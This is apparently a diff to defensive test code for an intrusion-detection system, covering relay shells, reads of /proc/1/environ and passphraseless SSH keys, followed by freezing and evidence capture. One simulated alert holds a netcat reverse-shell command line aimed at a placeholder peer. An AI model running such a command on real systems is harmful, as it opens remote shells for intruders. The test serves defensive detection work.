@@ -80,8 +80,8 @@ def test_a_relay_hands_out_a_shell(booted_host: Host, tell: Tell, tmp_path: Path
         shell = int(host.run("ss -Htnp | grep -oE 'pid=[0-9]+' | head -n 1 | cut -d= -f2"))
         alert = Spot(host).fields(host.start("tail", "-f", "/etc/passwd"))
         report = tell(alert | {"proc.cmdline": f"nc -e /bin/sh {PEER} 4444"}, rule=RELAY, host=host)
-        forward(report, "then freeze them")
-        report.contain("then freeze them", state=lambda: host.state(shell), becomes="T", shows=f"{shell} T")
+        forward(report, "Freeze the shells")
+        report.contain("Freeze the shells", state=lambda: host.state(shell), becomes="T", shows=f"{shell} T")
         assert f"/root/evidence/{report.uid}/{shell}.exe" in host.snapshot(f"/root/evidence/{report.uid}")
         report.undo(state=lambda: host.state(shell), becomes="S")
 
@@ -89,16 +89,18 @@ def test_a_relay_hands_out_a_shell(booted_host: Host, tell: Tell, tmp_path: Path
 def test_a_reader_of_environments(web: Spot, tell: Tell) -> None:
     pid = web.start("tail", "-f", "/etc/passwd")
     report = tell(web.fields(pid, fd__name="/proc/1/environ"), rule=READER, host=web.place)
-    forward(report, "then freeze it")
-    report.contain("then freeze it", state=lambda: web.place.state(pid), becomes="T", shows=f"{pid} T")
+    forward(report, "Freeze the process")
+    report.contain("Freeze the process", state=lambda: web.place.state(pid), becomes="T", shows=f"{pid} T")
     assert web.container is not None
     assert web.place.state(web.container.pid) == "S", "the workload itself was stopped"
     report.undo(state=lambda: web.place.state(pid), becomes="S")
 
 
-def test_a_key_without_a_passphrase(spot: Spot, tell: Tell) -> None:
+@pytest.mark.parametrize("mode", [0o600, 0o644], ids=oct)
+def test_a_key_without_a_passphrase(spot: Spot, tell: Tell, mode: int) -> None:
+    """Whatever its mode: ssh-keygen itself reads no key that others may read."""
     spot.place.run("rm -f /root/k; ssh-keygen -q -t ed25519 -N '' -C alice -f /root/k")
-    spot.write("/root/.ssh/id_ed25519", spot.place.read("/root/k"), 0o600)
+    spot.write("/root/.ssh/id_ed25519", spot.place.read("/root/k"), mode)
     pid = spot.start("tail", "-f", "/etc/passwd")
     report = tell(spot.fields(pid, fd__name="/root/.ssh/id_ed25519"), rule=SSH, host=spot.place)
     spot.place.run("logger -t sshd 'Accepted publickey for root from 203.0.113.9'; journalctl --sync")
